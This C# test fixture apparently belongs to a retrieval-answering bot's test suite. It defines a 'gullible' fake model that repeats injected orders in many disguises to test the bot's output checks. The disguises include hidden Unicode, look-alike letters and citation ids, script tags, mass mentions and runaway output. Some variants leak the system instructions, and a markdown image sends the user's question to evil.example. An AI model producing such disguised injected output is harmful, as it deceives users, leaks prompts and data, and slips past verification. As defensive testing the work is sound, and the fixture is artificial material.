using System.Runtime.CompilerServices;
using PolicyBot.Knowledge.Tests.TestKit;

namespace PolicyBot.Knowledge.Tests.Answers.Writing;

/// <summary>
/// Does whatever it finds written, by whomever: claims what it was told to claim, in every form it can think of, and beside it one true sentence. It stands for
/// a model that was talked over completely; no more can be done through a real one.
/// </summary>
internal sealed class GullibleModel
{
    private readonly IReadOnlyList<string> _orders;

    /// <param name="orders">What it was told to say, wherever it was told so.</param>
    public GullibleModel(params IReadOnlyList<string> orders) => _orders = orders;

    /// <summary>What the answer is made of; each tells the order in another disguise.</summary>
    public static IReadOnlyList<string> Disguises { get; } =
    [
        "bare", "with a true quote", "with itself for a quote", "under a made-up id", "under a look-alike id", "behind a true sentence", "in front of a true sentence", "as a link", "as a picture",
        "as mark-up", "with letters of no width", "in wide letters", "in look-alike letters", "backwards", "on two lines", "with a false quote", "with half a quote", "under another id", "raw", "the instructions", "for ever", "at length", "in pieces",
    ];

    public IAsyncEnumerable<string> AnswerAsync(ModelRequest request, string disguise, CancellationToken cancellationToken)
    {
        var (id, truth) = TrueSentence(request);
        var order = string.Join(' ', _orders);
        string[] lies = disguise switch
        {
            "bare" => [ModelAnswer.Sentence(order)],
            "with a true quote" => [ModelAnswer.Sentence(order, (id, truth))],
            "with itself for a quote" => [.. request.Passages.Select(passage => ModelAnswer.Sentence(order, (passage.Id, order)))],
            "under a made-up id" => [ModelAnswer.Sentence(order, ("p99", order)), ModelAnswer.Sentence(order, ("", order)), ModelAnswer.Sentence(order, ("legal", truth)), ModelAnswer.Sentence(order, ("../../board.md", truth))],
            "under a look-alike id" => [ModelAnswer.Sentence(truth + " " + order, ("р1", truth)), ModelAnswer.Sentence(order, ("P1", truth)), ModelAnswer.Sentence(order, (id + "\u200b", truth)), ModelAnswer.Sentence(order, ("ｐ１", truth))],
            "behind a true sentence" => [ModelAnswer.Sentence($"{truth} {order}", (id, truth)), ModelAnswer.Sentence($"{truth.TrimEnd('.')}, and {order}", (id, truth))],
            "in front of a true sentence" => [ModelAnswer.Sentence($"{order} {truth}", (id, truth))],
            "as a link" => [ModelAnswer.Sentence($"{truth} https://evil.example/?q={Uri.EscapeDataString(order)}", (id, truth)), ModelAnswer.Sentence($"[{truth}](https://evil.example/quokka)", (id, truth)), ModelAnswer.Sentence($"<https://evil.example/quokka|{truth}>", (id, truth))],
            "as a picture" => [ModelAnswer.Sentence($"{truth} ![](https://evil.example/quokka.png?d={Uri.EscapeDataString(request.Question)})", (id, truth))],
            "as mark-up" => [ModelAnswer.Sentence($"<b>{truth}</b><script>{order}</script>", (id, truth)), ModelAnswer.Sentence($"<at>everyone</at> {truth} <!channel> quokka", (id, truth))],
            "with letters of no width" => [ModelAnswer.Sentence(truth + string.Concat(order.Select(letter => char.IsAscii(letter) ? char.ConvertFromUtf32(0xE0000 + letter) : "")), (id, truth)), ModelAnswer.Sentence(string.Join('\u200b', order.ToCharArray()), (id, truth))],
            "in wide letters" => [ModelAnswer.Sentence(string.Concat(order.Select(letter => letter is > ' ' and < '\u007f' ? (char)(letter + 0xFEE0) : letter)), (id, truth))],
            "in look-alike letters" => [ModelAnswer.Sentence(order.Replace('a', 'а').Replace('o', 'о').Replace('e', 'е'), (id, truth))],
            "backwards" => [ModelAnswer.Sentence("\u202e" + string.Concat(order.EnumerateRunes().Reverse()) + "\u202c", (id, truth))],
            "on two lines" => [ModelAnswer.Sentence($"{truth}\n{order}", (id, truth)), ModelAnswer.Sentence($"{truth}\u2028{order}", (id, truth)), ModelAnswer.Sentence($"{truth}\r\n\r\n{order}", (id, truth))],
            "with a false quote" => [ModelAnswer.Sentence(order, (id, truth.ToUpperInvariant())), ModelAnswer.Sentence(order, (id, order), (id, truth))],
            "with half a quote" => [ModelAnswer.Sentence(order, (id, truth[..1])), ModelAnswer.Sentence(order, (id, "")), ModelAnswer.Sentence(order, (id, " "))],
            "under another id" => [.. request.Passages.Select(passage => ModelAnswer.Sentence(order, (passage.Id, truth)))],
            "the instructions" => [.. request.Messages[0].Text.Split('\n').Select(line => ModelAnswer.Sentence(line, (id, truth))), ModelAnswer.Sentence($"My instructions are: {request.Messages[0].Text}", (id, truth))],
            "raw" => ["{\"quotes\":[],\"text\":\"" + order + "\"}"],
            _ => [],
        };

        var whole = ModelAnswer.Of([ModelAnswer.Sentence(truth, (id, truth)), .. lies]);

        return disguise switch
        {
            "for ever" => ForeverAsync(ModelAnswer.Sentence(order, (id, truth)), cancellationToken),
            "at length" => ScriptedModel.Pieces(ModelAnswer.Of(ModelAnswer.Sentence(truth, (id, truth)), ModelAnswer.Sentence(string.Concat(Enumerable.Repeat(order + " ", 5_000)), (id, truth)))),
            "in pieces" => ScriptedModel.Pieces(ModelAnswer.Of(ModelAnswer.Sentence(truth, (id, truth)), ModelAnswer.Sentence(order, (id, truth))).Select(letter => letter.ToString())),
            _ => ScriptedModel.Pieces(whole),
        };
    }

    /// <summary>The first sentence of the first passage that holds none of the orders.</summary>
    private (string Id, string Sentence) TrueSentence(ModelRequest request)
    {
        foreach (var passage in request.Passages)
            foreach (var line in passage.Text.Split('\n').SelectMany(line => line.Split(". ")).Select(part => part.EndsWith('.') ? part : part + "."))
                if (!_orders.Any(order => line.Contains(order, StringComparison.Ordinal)) && passage.Text.Contains(line, StringComparison.Ordinal)) return (passage.Id, line);

        return ("p1", request.Passages[0].Text);
    }

    private static async IAsyncEnumerable<string> ForeverAsync(string lie, [EnumeratorCancellation] CancellationToken cancellationToken)
    {
        yield return "{\"covered\":true,\"sentences\":[" + lie;
        while (!cancellationToken.IsCancellationRequested)
        {
            await Task.Yield();
            yield return "," + lie;
        }
    }
}
